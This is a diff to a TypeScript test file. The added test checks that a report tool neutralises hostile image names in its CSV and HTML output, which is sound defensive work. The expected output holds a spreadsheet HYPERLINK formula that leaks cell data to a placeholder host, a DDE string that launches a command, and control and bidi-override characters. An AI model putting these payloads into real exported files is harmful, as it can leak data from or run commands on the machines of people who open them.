@@ -10,7 +10,14 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { CHANGE_KINDS } from '../../src/report/findings.js';
 import { COVERAGE_STATES } from '../../src/report/queries.js';
 import { parseCsv } from '../helpers/csv.js';
-import { newOutDir, type ReportWorld, runReport, startReportWorld } from '../helpers/report-world.js';
+import {
+  HOSTILE_NAMES,
+  makeHostileNames,
+  newOutDir,
+  type ReportWorld,
+  runReport,
+  startReportWorld,
+} from '../helpers/report-world.js';
 
 const records = (dir: string, name: string) => {
   const [header, ...rows] = parseCsv(readFileSync(join(dir, `${name}.csv`), 'utf8'));
@@ -74,6 +81,45 @@ describe('report numbers', () => {
       rows_total: rules.rows[0]!.n,
     });
     expect(files.get('coverage.csv')).toMatchObject({ rows: 4, rows_total: 4 });
+  });
+
+  it('hostile names: formulas guarded in the CSV (counted in the manifest), controls shown, the page keeps the text', async () => {
+    const first = newOutDir();
+    expect((await runReport(rw.w.t.url, ['--as-of', asOf, '--out', first])).code).toBe(0);
+    const ids = records(first, 'worst-images').map((r) => r.image_id as string);
+    await makeHostileNames(rw.w, ids);
+    const dir = newOutDir();
+    const r = await runReport(rw.w.t.url, ['--as-of', asOf, '--out', dir]);
+    expect(r.err).toBe('');
+    const names = new Map(records(dir, 'worst-images').map((x) => [x.image_id, x.image_names]));
+    expect(names.get(ids[0])).toBe(`'${HOSTILE_NAMES.formula}:v1`);
+    expect(names.get(ids[1])).toBe(`'${HOSTILE_NAMES.at}:v1`);
+    expect(names.get(ids[2])).toBe(`${HOSTILE_NAMES.long}:v1`);
+    expect(names.get(ids[3])).toBe('\\u202eexe.txt\\u202c مرحبا:v1');
+    expect(names.get(ids[4])).toBe('\\u001b[31mred\\u0007\\u0008:v1');
+    const csv = readFileSync(join(dir, 'worst-images.csv'), 'utf8');
+    expect(csv).not.toMatch(
+      /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/,
+    );
+    const m = manifestOf(dir);
+    expect(m.csv_formula_guard).toBe('prefix-apostrophe');
+    for (const f of m.files.filter((x: { name: string }) => x.name.endsWith('.csv'))) {
+      const cells = parseCsv(readFileSync(join(dir, f.name), 'utf8')).flat();
+      expect(f.formula_guarded_cells, f.name).toBe(cells.filter((c) => c.startsWith("'")).length);
+    }
+    expect(m.files.find((x: { name: string }) => x.name === 'worst-images.csv').formula_guarded_cells).toBe(
+      2,
+    );
+    // The page shows the original text (escaped as HTML), without the guard's quote.
+    const page = readFileSync(join(dir, 'index.html'), 'utf8');
+    expect(page).toContain(
+      '<td>=HYPERLINK(&quot;http://x.example/?leak=&quot;&amp;A1,&quot;Fix&quot;):v1</td>',
+    );
+    expect(page).toContain('<td>@cmd|&#39; /C calc&#39;!A0:v1</td>');
+    expect(page).toContain('<td>\\u001b[31mred\\u0007\\u0008:v1</td>');
+    expect(page).not.toMatch(
+      /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/,
+    );
   });
 
   it('coverage at T = now has the states and counts of hss.image_coverage, per scope', async () => {
